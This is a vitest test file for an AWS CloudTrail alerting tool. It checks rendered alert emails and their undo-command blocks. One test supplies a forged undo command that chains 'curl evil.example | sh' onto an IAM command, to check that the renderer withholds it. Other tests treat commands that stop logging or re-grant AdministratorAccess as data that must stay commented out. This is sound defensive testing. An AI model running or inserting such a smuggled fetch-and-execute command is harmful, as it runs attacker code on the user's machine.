import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { decide } from '../../lambdas/alerter/aggregation';
import {
  findingSubject,
  type RenderOptions,
  renderFindingEmail,
  renderOutcomeEmail,
  wrap,
} from '../../lambdas/alerter/render';
import { renderDigestEmail } from '../../lambdas/alerter/render-digest';
import { DetectionEngine } from '../../lambdas/engine/engine';
import { InMemoryStateStore } from '../../lambdas/engine/state/memory';
import {
  type CloudTrailRecord,
  type Finding,
  RULE_MODES,
  type Rule,
  SEVERITIES,
  type Severity,
} from '../../lambdas/engine/types';
import type { RemediationOutcome, StepOutcome } from '../../lambdas/findings/outcome';
import { catalog } from '../../lambdas/rules';
import { loadRuleFixture } from '../analyzer/support';

/** `UPDATE_GOLDEN=1 npx vitest run test/alerter/render.test.ts` rewrites the golden files instead of comparing. */
const UPDATE_GOLDEN = process.env.UPDATE_GOLDEN === '1';

const QUARANTINE_POLICY_ARN = 'arn:aws:iam::111122223333:policy/TrailGuardQuarantine';
const DETECTED_AT = new Date('2025-03-11T08:17:00Z');

/**
 * Runs the real engine (whole catalog, default modes, in-memory state, fixed clock) over the records in order
 * and returns the one finding of `ruleId` it raised.
 */
async function findingFromEngine(
  ruleId: string,
  records: readonly CloudTrailRecord[],
  rules: readonly Rule[] = catalog,
): Promise<Finding> {
  const engine = new DetectionEngine(rules, {
    state: new InMemoryStateStore(() => DETECTED_AT.getTime()),
    now: () => DETECTED_AT,
  });
  const raised: Finding[] = [];
  for (const record of records) {
    const { findings, errors } = await engine.analyze(record);
    expect(errors).toEqual([]);
    await engine.markEmitted(findings);
    raised.push(...findings.filter((f) => f.ruleId === ruleId));
  }
  expect(raised).toHaveLength(1);
  return raised[0] as Finding;
}

/** The same failed sign-in five times (distinct event ids, 15 s apart): enough for the per-address rule. */
function fiveFailedSignIns(): CloudTrailRecord[] {
  const base = loadRuleFixture('signin.console-login-failures', 'positive', 'iam-user-wrong-password');
  return Array.from({ length: 5 }, (_, i) => ({
    ...base,
    eventID: `${base.eventID.slice(0, -1)}${i}`,
    eventTime: new Date(Date.parse(base.eventTime) + i * 15_000).toISOString().replace('.000', ''),
  }));
}

/**
 * The catalog has no `info` or `low` rule; these two, written as a user would add them, give those severities a
 * golden email from real sign-in fixtures.
 */
const INFO_RULE: Rule = {
  id: 'signin.console-login-with-mfa',
  title: 'Console sign-in with MFA',
  description: 'An IAM user signed in to the console with MFA: recorded for the audit trail.',
  severity: 'info',
  attack: [],
  match: {
    eventSource: ['signin.amazonaws.com'],
    eventName: ['ConsoleLogin'],
    responseElements: { ConsoleLogin: ['Success'] },
    additionalEventData: { MFAUsed: ['Yes'] },
  },
  summarize: (e) =>
    `${String(e.userIdentity?.userName ?? 'Someone')} signed in to the AWS console with MFA from ${String(e.sourceIPAddress)}.`,
  defaultMode: 'alert',
  runbook:
    'Nothing to do unless the sign-in is unexpected for this user (time, place, browser). This message exists so the ' +
    'sign-in has a record next to the other alerts; route info messages to an archive with a filter policy on ' +
    'the severity attribute.',
  falsePositives: ['Every ordinary sign-in.'],
};
const LOW_RULE: Rule = {
  id: 'signin.console-login-failed',
  title: 'Failed console sign-in',
  description: 'One failed console sign-in with a password.',
  severity: 'low',
  attack: ['T1110.001'],
  match: {
    eventSource: ['signin.amazonaws.com'],
    eventName: ['ConsoleLogin'],
    responseElements: { ConsoleLogin: ['Failure'] },
  },
  summarize: (e) =>
    `Console sign-in as ${String(e.userIdentity?.userName ?? 'an unknown user')} failed from ${String(e.sourceIPAddress)}.`,
  defaultMode: 'alert',
  runbook:
    'A single failed sign-in is usually a mistyped password. Ask the user if it was them; if not, someone knows the ' +
    'user name and is trying passwords: check for more failures from the same address (the repeated-failure rules ' +
    'alert on those) and make sure the user has MFA.',
  falsePositives: ['Mistyped passwords.'],
};

/** One real catalog rule per severity the catalog uses, and the two rules above for info and low. */
const GOLDEN_CASES: {
  severity: Severity;
  ruleId: string;
  records: () => CloudTrailRecord[];
  rules?: readonly Rule[];
}[] = [
  {
    severity: 'critical',
    ruleId: 'cloudtrail.logging-stopped',
    records: () => [
      loadRuleFixture('cloudtrail.logging-stopped', 'positive', 'iam-user-stops-trail-by-name'),
    ],
  },
  {
    severity: 'high',
    ruleId: 'iam.access-key-created-for-another-user',
    records: () => [
      loadRuleFixture(
        'iam.access-key-created-for-another-user',
        'positive',
        'iam-user-creates-key-for-another-user',
      ),
    ],
  },
  { severity: 'medium', ruleId: 'signin.console-login-failures', records: fiveFailedSignIns },
  {
    severity: 'low',
    ruleId: LOW_RULE.id,
    rules: [LOW_RULE],
    records: () => [loadRuleFixture('signin.console-login-without-mfa', 'negative', 'failed-password-only')],
  },
  {
    severity: 'info',
    ruleId: INFO_RULE.id,
    rules: [INFO_RULE],
    records: () => [loadRuleFixture('signin.console-login-without-mfa', 'negative', 'iam-user-with-mfa')],
  },
];

/** What the alerter Lambda passes; the clock reads five minutes after the event by default. */
function renderOptions(now = new Date('2025-03-11T08:19:52Z')): RenderOptions {
  return {
    now,
    quarantinePolicyArn: QUARANTINE_POLICY_ARN,
    configPrefix: '/trailguard',
    accountAliases: { '111122223333': 'prod-payments' },
  };
}

function matchGolden(name: string, actual: string): void {
  const file = fileURLToPath(new URL(`./golden/${name}.txt`, import.meta.url));
  if (UPDATE_GOLDEN) {
    mkdirSync(dirname(file), { recursive: true });
    writeFileSync(file, actual);
    return;
  }
  expect(actual).toBe(readFileSync(file, 'utf8'));
}

describe('renderFindingEmail', () => {
  it('has a golden email for every severity', () => {
    expect(GOLDEN_CASES.map((c) => c.severity).sort()).toEqual([...SEVERITIES].sort());
  });

  it('shows the account alias next to the account id when one is configured, and the id alone otherwise', async () => {
    // Prepare
    const finding = await findingFromEngine('cloudtrail.logging-stopped', GOLDEN_CASES[0]?.records() ?? []);

    // Act
    const withAlias = renderFindingEmail(finding, renderOptions()).text;
    const without = renderFindingEmail(finding, { now: renderOptions().now }).text;
    const otherAccount = renderFindingEmail({ ...finding, account: '444455556666' }, renderOptions()).text;

    // Assess
    expect(withAlias).toContain('\n  Account:     111122223333 (prod-payments)\n');
    expect(without).toContain('\n  Account:     111122223333\n');
    expect(otherAccount).toContain('\n  Account:     444455556666\n');
  });

  it.each(GOLDEN_CASES)(
    'renders the $severity finding email exactly as its golden file when the engine raises $ruleId',
    async ({ severity, ruleId, records, rules }) => {
      // Prepare
      const finding = await findingFromEngine(ruleId, records(), rules);

      // Act
      const email = renderFindingEmail(
        finding,
        renderOptions(new Date(Date.parse(finding.eventTime) + 5 * 60_000)),
      );

      // Assess
      expect(finding.severity).toBe(severity);
      matchGolden(severity, `Subject: ${email.subject}\n\n${email.text}`);
    },
  );

  it('labels each undo command with its step and comments out re-stopping the trail when the rule is in enforce mode', async () => {
    // Prepare
    const finding = await findingFromEngine('cloudtrail.logging-stopped', GOLDEN_CASES[0]?.records() ?? []);

    // Act
    const { text } = renderFindingEmail(finding, renderOptions());

    // Assess
    expect(finding.mode).toBe('enforce');
    expect(text).toContain(
      [
        'HOW TO UNDO',
        '  Every step is reversible; the follow-up message confirms which ones ran. To reverse one:',
        '    # step 1 restarted logging; stop it again only if the trail was meant to be off:',
        '    # aws cloudtrail stop-logging --name org-audit-trail --region eu-west-1',
        '    # step 2: Quarantine IAM user build-bot (attach the deny-all quarantine policy): it stopped CloudTrail logging.',
        `    aws iam detach-user-policy --user-name build-bot --policy-arn ${QUARANTINE_POLICY_ARN}`,
        '',
      ].join('\n'),
    );
  });

  it('never runs stop-logging when the whole undo block is pasted into a shell', async () => {
    // Prepare
    const finding = await findingFromEngine('cloudtrail.logging-stopped', GOLDEN_CASES[0]?.records() ?? []);
    const { text } = renderFindingEmail(finding, renderOptions());
    const block = text.slice(
      text.indexOf('HOW TO UNDO\n') + 'HOW TO UNDO\n'.length,
      text.indexOf('\nRUNBOOK\n'),
    );
    const dir = mkdtempSync(join(tmpdir(), 'trailguard-undo-'));
    const ran = join(dir, 'ran');

    // Act: every line after the intro, as pasted; `aws` records each call.
    const pasted = block.split('\n').slice(1).join('\n');
    spawnSync('bash', ['-c', `aws() { echo "$*" >> '${ran}'; }\n${pasted}`], { encoding: 'utf8' });

    // Assess
    const calls = existsSync(ran) ? readFileSync(ran, 'utf8').trim().split('\n') : [];
    rmSync(dir, { recursive: true, force: true });
    expect(calls).toEqual([
      `iam detach-user-policy --user-name build-bot --policy-arn ${QUARANTINE_POLICY_ARN}`,
    ]);
  });

  it('prints no undo section when the rule is in alert or dry-run mode', async () => {
    // Prepare
    const enforced = await findingFromEngine('cloudtrail.logging-stopped', GOLDEN_CASES[0]?.records() ?? []);

    // Act
    const texts = (['alert', 'dry-run'] as const).map(
      (mode) => renderFindingEmail({ ...enforced, mode }, renderOptions()).text,
    );

    // Assess
    for (const text of texts) {
      expect(text).not.toContain('HOW TO UNDO');
      expect(text).toContain('  1. Start logging on CloudTrail trail org-audit-trail in eu-west-1.');
    }
  });

  it('leaves out the quarantine undo command when no quarantine policy ARN is configured', async () => {
    // Prepare
    const finding = await findingFromEngine('cloudtrail.logging-stopped', GOLDEN_CASES[0]?.records() ?? []);

    // Act
    const { text } = renderFindingEmail(finding, { now: renderOptions().now });

    // Assess
    expect(text).toContain('    # aws cloudtrail stop-logging --name org-audit-trail --region eu-west-1');
    expect(text).not.toContain('detach-user-policy');
  });

  it('names the user under WHO when a failed sign-in carries a user name but no ARN', async () => {
    // Prepare
    const finding = await findingFromEngine('signin.console-login-failures', fiveFailedSignIns());

    // Act
    const { text } = renderFindingEmail(finding, renderOptions());

    // Assess
    const who = text.slice(text.indexOf('\nWHO\n'), text.indexOf('\nFROM WHERE\n'));
    expect(finding.principal.identityName).toBe('alice');
    expect(who).toContain('alice');
  });

  it('prints a tune command that does not change the rule mode when an on-call engineer pastes it as is', async () => {
    // Prepare
    const finding = await findingFromEngine('cloudtrail.logging-stopped', GOLDEN_CASES[0]?.records() ?? []);
    const { text } = renderFindingEmail(finding, renderOptions());
    const tune = text
      .split('\n')
      .find((l) => l.includes('aws ssm put-parameter'))
      ?.trim();
    const dir = mkdtempSync(join(tmpdir(), 'trailguard-paste-'));
    const ranWith = join(dir, 'aws-args');

    // Act: bash runs the pasted line with `aws` replaced by a function that records its arguments.
    spawnSync('bash', ['-c', `aws() { printf '%s\\n' "$@" > '${ranWith}'; }\n${tune}`], { encoding: 'utf8' });

    // Assess
    const args = existsSync(ranWith) ? readFileSync(ranWith, 'utf8').split('\n') : [];
    rmSync(dir, { recursive: true, force: true });
    expect(tune).toContain('put-parameter');
    const valueSet = args.includes('--value') ? args[args.indexOf('--value') + 1] : undefined;
    expect(RULE_MODES, `pasting the line ran: aws ${args.join(' ').trim()}`).not.toContain(valueSet);
  });

  it('uses the same subject as findingSubject when it renders a finding', async () => {
    // Prepare
    const finding = await findingFromEngine('cloudtrail.logging-stopped', GOLDEN_CASES[0]?.records() ?? []);

    // Act
    const email = renderFindingEmail(finding, renderOptions());

    // Assess
    expect(email.subject).toBe(findingSubject(finding));
    expect(email.subject).toBe('[TrailGuard CRITICAL] CloudTrail logging stopped - build-bot');
  });
});

describe('renderOutcomeEmail', () => {
  const UNDO = {
    startLogging: 'aws cloudtrail stop-logging --name org-audit-trail --region eu-west-1',
    quarantine: `aws iam detach-user-policy --user-name build-bot --policy-arn ${QUARANTINE_POLICY_ARN}`,
    disableKey:
      'aws iam update-access-key --user-name build-bot --access-key-id AKIAQ3EGUXBZ4TVMWK7N --status Active',
    quarantineAdmin: `aws iam detach-user-policy --user-name breakglass-admin --policy-arn ${QUARANTINE_POLICY_ARN}`,
  };

  function outcome(steps: StepOutcome[]): RemediationOutcome {
    return {
      schemaVersion: '1.0',
      id: '3f1c9a7e2b4d6f8a0c1e3a5b7d9f1b2c:outcome',
      findingId: '3f1c9a7e2b4d6f8a0c1e3a5b7d9f1b2c',
      ruleId: 'cloudtrail.logging-stopped',
      title: 'CloudTrail logging stopped',
      severity: 'critical',
      summary:
        'IAM user build-bot stopped logging on CloudTrail trail "org-audit-trail" in eu-west-1 from 185.220.101.34.',
      principal: {
        type: 'IAMUser',
        arn: 'arn:aws:iam::111122223333:user/build-bot',
        identityType: 'user',
        identityName: 'build-bot',
      },
      account: '111122223333',
      region: 'eu-west-1',
      eventTime: '2025-03-11T08:14:52.000Z',
      mode: 'enforce',
      steps,
      decidedAt: '2025-03-11T08:17:05.000Z',
    };
  }

  /** Every step carries an undo command (as a forged or buggy outcome could): only succeeded ones may print. */
  const mixedSteps: StepOutcome[] = [
    {
      index: 0,
      action: 'cloudtrail.start-logging',
      description: 'Start logging on CloudTrail trail org-audit-trail in eu-west-1.',
      status: 'succeeded',
      undoCommand: UNDO.startLogging,
    },
    {
      index: 1,
      action: 'iam.quarantine-principal',
      description:
        'Quarantine IAM user build-bot (attach the deny-all quarantine policy): it stopped CloudTrail logging.',
      status: 'failed',
      reason: 'AccessDenied: User is not authorized to perform iam:AttachUserPolicy',
      undoCommand: UNDO.quarantine,
    },
    {
      index: 2,
      action: 'iam.disable-access-key',
      description:
        'Deactivate access key AKIAQ3EGUXBZ4TVMWK7N of IAM user build-bot: its holder stopped logging.',
      status: 'dry-run',
      reason: 'would: deactivate access key AKIAQ3EGUXBZ4TVMWK7N',
      undoCommand: UNDO.disableKey,
    },
    {
      index: 3,
      action: 'iam.quarantine-principal',
      description:
        'Quarantine IAM user breakglass-admin (attach the deny-all quarantine policy): it stopped logging.',
      status: 'skipped-protected',
      reason:
        'arn:aws:iam::111122223333:user/breakglass-admin matches protected pattern arn:aws:iam::*:user/breakglass-*',
      undoCommand: UNDO.quarantineAdmin,
    },
  ];

  it('shows each step with its status words and prints undo commands only for succeeded steps when steps end differently', () => {
    // Prepare
    const mixed = outcome(mixedSteps);

    // Act
    const { subject, text } = renderOutcomeEmail(mixed, renderOptions());

    // Assess
    expect(subject).toBe('[TrailGuard FAILED] CloudTrail logging stopped - build-bot');
    const lines = text.split('\n');
    expect(lines).toContain('  1. [DONE] Start logging on CloudTrail trail org-audit-trail in eu-west-1.');
    expect(lines).toContain(
      '  2. [FAILED] Quarantine IAM user build-bot (attach the deny-all quarantine policy): it stopped CloudTrail logging.',
    );
    expect(lines).toContain('     AccessDenied: User is not authorized to perform iam:AttachUserPolicy');
    expect(lines).toContain(
      '  3. [DRY RUN (not changed)] Deactivate access key AKIAQ3EGUXBZ4TVMWK7N of IAM user build-bot: its holder stopped logging.',
    );
    expect(
      lines.some((l) =>
        l.startsWith('  4. [SKIPPED (protected principal)] Quarantine IAM user breakglass-admin'),
      ),
    ).toBe(true);
    expect(text).toContain('A failed step is retried automatically when the failure is transient');
    expect(text).toContain(
      `HOW TO UNDO\n  If this response was wrong, reverse it with:\n` +
        `    # step 1 restarted logging; stop it again only if the trail was meant to be off:\n    # ${UNDO.startLogging}\n`,
    );
    expect(text).not.toContain(UNDO.quarantine);
    expect(text).not.toContain(UNDO.disableKey);
    expect(text).not.toContain(UNDO.quarantineAdmin);
  });

  it('says CONTAINED and lists every undo command when all steps succeeded', () => {
    // Prepare
    const done = outcome([
      { ...(mixedSteps[0] as StepOutcome) },
      { ...(mixedSteps[1] as StepOutcome), status: 'succeeded', reason: undefined },
    ]);

    // Act
    const { subject, text } = renderOutcomeEmail(done, renderOptions());

    // Assess
    expect(subject).toBe('[TrailGuard CONTAINED] CloudTrail logging stopped - build-bot');
    expect(text).toContain(`    # ${UNDO.startLogging}\n`);
    expect(text).toContain(`    # step 2: ${mixedSteps[1]?.description}\n    ${UNDO.quarantine}\n`);
    expect(text).not.toContain('FAILED');
  });

  it('says DRY RUN and prints no undo section when steps were only dry-run or skipped', () => {
    // Prepare
    const nothingChanged = outcome([
      { ...(mixedSteps[2] as StepOutcome), index: 0 },
      { ...(mixedSteps[3] as StepOutcome), index: 1 },
    ]);

    // Act
    const { subject, text } = renderOutcomeEmail({ ...nothingChanged, mode: 'dry-run' }, renderOptions());

    // Assess
    expect(subject).toBe('[TrailGuard DRY RUN] CloudTrail logging stopped - build-bot');
    expect(text).toContain('WHAT TRAILGUARD DID (mode dry-run)');
    expect(text).toContain('  1. [DRY RUN (not changed)] ');
    expect(text).toContain('  2. [SKIPPED (protected principal)] ');
    expect(text).not.toContain('HOW TO UNDO');
  });

  it('says NO CHANGE when every step was already in place', () => {
    // Prepare
    const unchanged = outcome([{ ...(mixedSteps[0] as StepOutcome), status: 'already-applied' }]);

    // Act
    const { subject, text } = renderOutcomeEmail(unchanged, renderOptions());

    // Assess
    expect(subject).toBe('[TrailGuard NO CHANGE] CloudTrail logging stopped - build-bot');
    expect(text).not.toContain('HOW TO UNDO');
  });

  it('withholds an undo command that does not have the expected shape', () => {
    // Prepare
    const forged = outcome([
      {
        ...(mixedSteps[1] as StepOutcome),
        status: 'succeeded',
        undoCommand: 'aws iam detach-user-policy --user-name x; curl evil.example | sh',
      },
    ]);

    // Act
    const { text } = renderOutcomeEmail(forged, renderOptions());

    // Assess
    expect(text).toContain('undo command withheld');
    expect(text).not.toContain('curl');
  });
});

describe('renderDigestEmail', () => {
  it('renders the digest of repeated findings exactly as its golden file', async () => {
    // Prepare: a key created for another user, then the same user does it four more times within 15 minutes.
    const first = await findingFromEngine(
      'iam.access-key-created-for-another-user',
      GOLDEN_CASES[1]?.records() ?? [],
    );
    const start = Date.parse(first.eventTime);
    let window = decide(undefined, first, 900);
    if (window.kind !== 'alert' || !window.next) throw new Error('expected a new window');
    let current = window.next;
    for (const [i, minutes] of [2, 4, 7, 11].entries()) {
      const eventTime = new Date(start + minutes * 60_000).toISOString();
      const repeat: Finding = {
        ...first,
        id: `${first.id.slice(0, 24)}r${i}`,
        eventTime,
        summary: first.summary.replace(/for IAM user "[^"]+"/, `for IAM user "svc-user-${i + 2}"`),
      };
      const step = decide(current, repeat, 900);
      if (step.kind !== 'suppress') throw new Error('expected a repeat');
      current = step.next;
    }
    window = decide(
      current,
      {
        ...first,
        id: `${first.id.slice(0, 24)}next`,
        eventTime: new Date(start + 20 * 60_000).toISOString(),
      },
      900,
    );
    const digest = window.kind === 'alert' ? window.next?.pendingDigest : undefined;
    if (!digest) throw new Error('expected a digest');

    // Act
    const email = renderDigestEmail(digest, renderOptions(new Date(start + 21 * 60_000)));

    // Assess
    expect(digest.count).toBe(4);
    matchGolden('digest', `Subject: ${email.subject}\n\n${email.text}`);
  });
});

describe('undo blocks that would redo the attacker’s change', () => {
  it('never re-grants administrator access when the whole undo block of an outcome is pasted into a shell', async () => {
    // Prepare
    const finding = await findingFromEngine('cloudtrail.logging-stopped', GOLDEN_CASES[0]?.records() ?? []);
    const quarantine = `aws iam detach-user-policy --user-name build-bot --policy-arn ${QUARANTINE_POLICY_ARN}`;
    const regrant =
      'aws iam attach-user-policy --user-name svc-backup --policy-arn arn:aws:iam::aws:policy/AdministratorAccess';
    const { text } = renderOutcomeEmail(
      {
        schemaVersion: '1.0',
        id: `${finding.id}:outcome`,
        findingId: finding.id,
        ruleId: 'iam.admin-policy-attached',
        title: 'Administrator access granted',
        severity: 'critical',
        summary: 'IAM user build-bot attached AdministratorAccess to IAM user "svc-backup".',
        principal: finding.principal,
        eventTime: finding.eventTime,
        mode: 'enforce',
        steps: [
          {
            index: 0,
            action: 'iam.quarantine-principal',
            description: 'Quarantine IAM user build-bot.',
            status: 'succeeded',
            undoCommand: quarantine,
          },
          {
            index: 1,
            action: 'iam.detach-admin-policy',
            description: 'Detach AdministratorAccess from IAM user svc-backup.',
            status: 'succeeded',
            undoCommand: regrant,
          },
        ],
        decidedAt: finding.detectedAt,
      },
      renderOptions(),
    );
    const block = text.slice(text.indexOf('HOW TO UNDO\n'), text.indexOf('\n--\n'));
    const dir = mkdtempSync(join(tmpdir(), 'trailguard-undo-'));
    const ran = join(dir, 'ran');

    // Act
    spawnSync('bash', [
      '-c',
      `aws() { echo "aws $*" >> '${ran}'; }\n${block.split('\n').slice(2).join('\n')}`,
    ]);

    // Assess
    const calls = existsSync(ran) ? readFileSync(ran, 'utf8').trim().split('\n') : [];
    rmSync(dir, { recursive: true, force: true });
    expect(calls).toEqual([quarantine]);
    expect(block).toContain(`    # ${regrant}`);
    expect(block).toContain(
      '# step 2 reverted the change this alert is about; redo it only if that change was intended:',
    );
  });
});

describe('wrap', () => {
  it('never leaves a section title alone on a line when a long word follows it', () => {
    // Prepare: the counterexample fast-check found, a principal type of "--" next to a 600-character ARN.
    const text = `Region enabled by ${'a'.repeat(120)} ( -- ${'admin'.repeat(40)} ) WHO ${'b'.repeat(120)}`;

    // Act
    const lines = wrap(text, 100);

    // Assess
    expect(lines.map((l) => l.trim())).not.toContain('--');
    expect(lines.map((l) => l.trim())).not.toContain('WHO');
    expect(lines.join(' ')).toBe(text);
  });

  it('quotes a text that is nothing but a section title', () => {
    // Act / Assess
    expect(wrap('  WHAT HAPPENED ', 100)).toEqual(['"WHAT HAPPENED"']);
    expect(wrap('sign-in from --', 100)).toEqual(['sign-in from --']);
  });
});
